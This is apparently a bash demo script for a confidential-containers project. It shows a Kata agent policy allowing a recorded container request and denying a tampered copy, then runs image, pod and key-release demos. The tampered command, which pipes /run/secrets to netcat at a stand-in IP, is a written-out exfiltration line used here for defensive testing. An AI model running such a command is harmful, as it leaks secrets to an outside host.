#!/usr/bin/env bash
# The README's demo command: installs what is needed, builds cocoon, and
# evaluates a real Kata agent policy (genpolicy output, Rego v0) with the
# agent's query and settings (v0, non-strict builtin errors) against a
# CreateContainerRequest recorded from a real pod:
#   1. the request as recorded: the policy allows it;
#   2. the same request with the container's command swapped, as a hostile
#      host could send it: the policy denies it, and the lines the policy
#      printed last say why (the command does not match the pod spec).
# Then the image service (scripts/demo_image.sh): an owner encrypts an image
# while pushing it to a local docker-registry; a pull without the key is
# refused, a pull with it unpacks an OCI bundle under a signature policy.
# Then a pod (scripts/demo_pod.sh): containerd runs a container through
# containerd-shim-cocoon-v2 in a QEMU microVM; its image is pulled in the guest.
# Last, an attested secret release (scripts/demo_kbs.sh): cocoon-kbs on its
# zero-config defaults refuses a secret to a TEE whose reference values are
# not registered and releases it, JWE-encrypted, once they are.
#
# Usage: bash scripts/demo.sh [SCENARIO]   (default pod-exec; any directory
#        under tests/rego/kata/ with policy.rego, inputs.txt, outputs.json)
set -euo pipefail

cd "$(dirname "${BASH_SOURCE[0]}")/.."

scenario=${1:-pod-exec}
case $scenario in -h | --help)
	sed -n '2,20p' "$0" | sed 's/^# \{0,1\}//'
	exit 0
	;;
esac
vec=tests/rego/kata/$scenario
for f in policy.rego inputs.txt outputs.json; do
	if [[ ! -f $vec/$f ]]; then
		echo "demo.sh: $vec/$f is missing; scenarios: $(find tests/rego/kata -mindepth 1 -maxdepth 1 -type d -printf '%f ' 2>/dev/null)" >&2
		exit 1
	fi
done

bash scripts/deps.sh

echo "==> build (build/)"
if [[ ! -f build/meson-private/coredata.dat ]]; then
	rm -rf build
	meson setup build -Dbuildtype=debugoptimized >/dev/null
fi
meson compile -C build >/dev/null
cocoon=build/src/cocoon/cocoon

out=build/demo
mkdir -p "$out"

# The last recorded CreateContainerRequest the policy allowed (the
# application container; the first one is the pause container), as is and
# with the last word of its command replaced.
evil='cat /run/secrets/* | nc 203.0.113.7 4444'
python3 - "$vec" "$out" "$evil" <<'PY'
import json
import sys

vec, out, evil = sys.argv[1:]
lines = [l.strip() for l in open(f"{vec}/inputs.txt", encoding="utf-8") if l.strip()]
outputs = json.load(open(f"{vec}/outputs.json", encoding="utf-8"))
prefix = '["ep":"CreateContainerRequest",'
allowed = [i for i, l in enumerate(lines) if l.startswith(prefix) and outputs[i] is True]
if not allowed:
    sys.exit(f"demo.sh: no allowed CreateContainerRequest in {vec}/inputs.txt")
line = lines[allowed[-1]].rstrip(",")
req = json.loads(line[len(prefix):-1])
with open(f"{out}/allow.json", "w", encoding="utf-8") as fh:
    json.dump(req, fh, indent=1)
args = req["OCI"]["Process"]["Args"]
print("request #%d of %s/inputs.txt: container command %s" % (allowed[-1], vec, json.dumps(args)))
args[-1] = evil if len(args) > 1 else args[-1] + " -c '" + evil + "'"
with open(f"{out}/deny.json", "w", encoding="utf-8") as fh:
    json.dump(req, fh, indent=1)
print("tampered copy: container command %s" % json.dumps(args))
PY

query=data.agent_policy.CreateContainerRequest

# evaluate LABEL INPUT EXPECTED NLINES: runs the policy with the Kata
# agent's query and settings (v0 policy, non-strict builtin errors, regorus's
# body-level early exit), prints the decision and the
# last NLINES lines the policy printed (print output is on stderr), and
# fails unless the result is EXPECTED.
evaluate() {
	local label=$1 input=$2 expected=$3 nlines=$4 value rc=0 n
	echo
	echo "==> $label"
	echo "\$ $cocoon policy eval --v0-compatible --early-exit body -d $vec/policy.rego -i $input -f pretty '$query'"
	value=$("$cocoon" policy eval --v0-compatible --early-exit body -d "$vec/policy.rego" -i "$input" \
		-f pretty "$query" 2>"$input.prints") || rc=$?
	if ((rc != 0)); then
		echo "demo.sh: cocoon policy eval failed (exit $rc):" >&2
		tail -n 20 "$input.prints" >&2
		exit 1
	fi
	n=$(wc -l <"$input.prints")
	echo "result: $value"
	case $value in
	true) echo "decision: ALLOWED" ;;
	false) echo "decision: DENIED" ;;
	*) echo "decision: unexpected result '$value'" >&2; exit 1 ;;
	esac
	echo "the policy printed $n lines ($input.prints); the last ones:"
	tail -n "$nlines" "$input.prints" | cut -c1-200 | sed 's/^/    /'
	if [[ $value != "$expected" ]]; then
		echo "demo.sh: expected $expected for the $label" >&2
		exit 1
	fi
}

evaluate "recorded request" "$out/allow.json" true 3
evaluate "tampered request (command swapped by the host)" "$out/deny.json" false 8

echo
echo "==> summary: the recorded request is allowed; the same request with the"
echo "    container command swapped is denied, and the policy's print lines"
echo "    above show the argument that no rule allows. Inputs and full print"
echo "    output: $out/"

bash scripts/demo_image.sh "$cocoon" "$out/image"
echo
echo "==> summary: the encrypted image could only be pulled with the owner's key;"
echo "    the bundle is in $out/image/bundle/"

bash scripts/demo_pod.sh build "$out/pod"
echo
echo "==> summary: containerd ran the container in a microVM through the cocoon shim;"
echo "    the image was pulled in the guest (the host's content store stayed empty)"
echo "    and nothing was left running. Files: $out/pod/"

bash scripts/demo_kbs.sh build "$out/kbs"
echo
echo "==> summary: cocoon-kbs released the secret only after attestation with the"
echo "    reference values registered (EAR status affirming), encrypted to the TEE's"
echo "    key. Files: $out/kbs/"
